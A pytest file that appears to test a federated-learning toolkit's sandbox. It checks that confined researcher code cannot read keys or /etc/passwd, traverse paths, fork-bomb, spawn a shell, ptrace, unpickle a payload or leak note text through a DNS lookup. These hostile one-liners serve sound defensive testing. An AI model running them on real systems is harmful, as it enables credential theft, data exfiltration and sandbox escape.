"""Escape: approved code that reaches for files, programs, the network, the kernel and other processes.

A researcher's code that neither findings nor a steward saw through, run on private notes by a site in its own process.
"""

from __future__ import annotations

from pathlib import Path

import psutil
import pytest
from attackers import Town
from attempts import Attempt, Trial, tries
from rounds import Rounds, approved
from worker_world import needs_landlock, needs_seccomp

from fedkit.sites.confinement import available

pytestmark = [needs_landlock, needs_seccomp]
FAILED = "execution.failed execution"

#: What is tried → lines of Python, and the words of the errors one of which it must meet.
ESCAPES: dict[str, tuple[str, str]] = {
    "reads the key of its site": ("open(SITE + '/domain/node.key', 'rb').read()", "PermissionError"),
    "reads the store of notes": ("open(SITE + '/notes.duckdb', 'rb').read()", "PermissionError"),
    "reads the passwords of the federation": ("open(HOME + '/accounts.json').read()", "PermissionError"),
    "reads the ledger keys of stewards": ("import os; os.listdir(HOME + '/keys')", "PermissionError"),
    "reads another site's folder": ("import os; os.listdir(SITE + '/../east')", "PermissionError"),
    "writes a row of its own into the journal": ("open(SITE + '/journal.db', 'ab').write(b'x')", "PermissionError OSError"),
    "grants itself runs in the gate's database": (
        "import sqlite3; sqlite3.connect(SITE + '/gate.db').execute('UPDATE charges SET n = 0')",
        "Exception",
    ),
    "reads the passwords of the machine": ("open('/etc/passwd').read()", "PermissionError"),
    "lists the home folder": ("import os; os.listdir(PERSON)", "PermissionError"),
    "reads the memory of the site's server": (
        "import os; open(f'/proc/{os.getppid()}/mem', 'rb')",
        "PermissionError FileNotFoundError",
    ),
    "reads the environment of the site's server": (
        "import os; open(f'/proc/{os.getppid()}/environ').read()",
        "PermissionError FileNotFoundError",
    ),
    "lists the processes of the machine": ("import os; os.listdir('/proc')", "PermissionError"),
    "plants a file in the shared folder for temporary files": (
        "open('/tmp/planted-by-a-worker', 'w')",
        "PermissionError OSError",
    ),
    "plants a file in shared memory": ("open('/dev/shm/planted-by-a-worker', 'w')", "PermissionError OSError"),
    "makes a link out of its folder": ("import os; os.symlink('/etc/passwd', 'passwd')", "PermissionError OSError"),
    "follows a link out of its folder": ("import os; os.link('/etc/passwd', 'passwd')", "PermissionError OSError"),
    "walks out of its folder by dots": ("open('../../../../../../etc/passwd').read()", "PermissionError FileNotFoundError"),
    "mends the standard library for the next run": ("import os; open(os.__file__, 'a')", "PermissionError OSError"),
    "mends fedkit for the next run": ("import fedkit.errors as e; open(e.__file__, 'a')", "PermissionError OSError"),
    "opens a connection": ("import socket; socket.create_connection(('127.0.0.1', 80), 1)", "PermissionError"),
    "asks the name server, with a note in the name": (
        "import socket; socket.gethostbyname(notes.train[0].text.split()[0] + '.example.org')",
        "OSError",
    ),
    "sends a datagram": ("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)", "PermissionError"),
    "opens a socket of Unix": ("import socket; socket.socket(socket.AF_UNIX)", "PermissionError"),
    "makes a pair of sockets": ("import socket; socket.socketpair()", "PermissionError"),
    "opens a raw socket": ("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "PermissionError"),
    "fetches a page": ("import urllib.request as u; u.urlopen('http://127.0.0.1:1', timeout=1)", "OSError"),
    "listens on a port": ("import socket; socket.create_server(('127.0.0.1', 0))", "PermissionError"),
    "forks": ("import os; os.fork()", "PermissionError"),
    "starts a fork bomb": ("import os\nwhile True: os.fork()", "PermissionError"),
    "starts a shell": ("import os; os.execv('/bin/sh', ['sh'])", "PermissionError"),
    "starts a program": ("import subprocess; subprocess.run(['true'])", "PermissionError"),
    "starts a program by the C library": (
        "import ctypes; c = ctypes.CDLL(None); 0 if c.system(b'true') == 0 else open('/')",
        "PermissionError IsADirectoryError",
    ),
    "kills the site's server": ("import os; os.kill(os.getppid(), 9)", "PermissionError"),
    "kills its group": ("import os; os.killpg(0, 9)", "PermissionError"),
    "traces the site's server": (
        "import ctypes, os; c = ctypes.CDLL(None); c.ptrace(16, os.getppid(), 0, 0) == -1 and open('/')",
        "PermissionError IsADirectoryError",
    ),
    "makes shared memory": (
        "from multiprocessing import shared_memory as s; s.SharedMemory(create=True, size=64)",
        "PermissionError OSError",
    ),
    "becomes root": ("import os; os.setuid(0)", "PermissionError"),
    "opens a namespace of its own": (
        "import ctypes; ctypes.CDLL(None).unshare(0x10000000) == -1 and open('/')",
        "PermissionError IsADirectoryError",
    ),
    "mounts a file system": (
        "import ctypes; ctypes.CDLL(None).mount(b'x', b'/', b'proc', 0, 0) == -1 and open('/')",
        "PermissionError IsADirectoryError",
    ),
    "takes away its limits": (
        "import resource as r; r.setrlimit(r.RLIMIT_AS, (r.RLIM_INFINITY, r.RLIM_INFINITY))",
        "ValueError PermissionError",
    ),
    "puts a debugger into the kernel": (
        "import ctypes; ctypes.CDLL(None).syscall(321, 0, 0, 0) == -1 and open('/')",
        "PermissionError IsADirectoryError",
    ),
    "unpickles code": (
        "import pickle; pickle.loads(b'cos\\nsystem\\n(S\\'touch /tmp/unpickled-by-a-worker\\'\\ntR.'); open('/')",
        "PermissionError IsADirectoryError",
    ),
}


@pytest.fixture(scope="module")
def rounds(blind: Town) -> Rounds:
    site = Path(blind.federation.folder) / "sites" / "north"
    places = f"SITE, HOME, PERSON = {str(site)!r}, {str(blind.federation.folder)!r}, {str(Path.home())!r}\n"
    return approved(blind, {name: places + code for name, (code, _) in ESCAPES.items()})


@tries(*(Attempt(name, "researcher", "execution", FAILED) for name in ESCAPES))
def test_approved_code_does_not_get_out(trial: Trial, blind: Town, rounds: Rounds) -> None:
    name = trial.attempt.name
    server = {p.pid for p in psutil.Process().children(recursive=True) if "fedkit.sites.serve" in " ".join(p.cmdline())}
    with trial(request=rounds.digest, entry="count") as said:
        with pytest.raises(Exception) as failed:  # noqa: PT011 - which one, `trial` says
            rounds.run(name)
        said(failed.value)
        assert any(word in str(failed.value) for word in ESCAPES[name][1].split()), failed.value
    assert all(psutil.pid_exists(pid) for pid in server)
    for planted in ("planted-by-a-worker", "unpickled-by-a-worker"):
        assert not any((Path(place) / planted).exists() for place in ("/tmp", "/dev/shm"))


def test_the_harness_sees_what_works(blind: Town) -> None:
    """Lines that nothing forbids run to their end, so that the errors above are those of the worker."""
    assert {"landlock", "seccomp"} <= set(available())
    honest = approved(blind, {"works": "open('mine', 'w').write('x'); import os; os.remove('mine')"})
    assert honest.run("works").numbers["notes"] == 1


def test_what_runs_knows_no_secret(blind: Town) -> None:
    """No password, key or path of the site is in its environment, its arguments or what is loaded."""
    looks = {
        "environment": "import os; assert not [k for k in os.environ if {'PASS', 'KEY', 'TOKEN'} & set(k.upper().split('_'))]",
        "modules": "import sys; assert not {m.split('.')[0] for m in sys.modules} & {'syft', 'nacl', 'web3', 'eth_account'}",
        "arguments": f"import sys; assert {str(blind.federation.folder)!r} not in ' '.join(sys.argv)",
    }
    rounds = approved(blind, looks)
    for name in looks:
        assert rounds.run(name).numbers["notes"] == 1
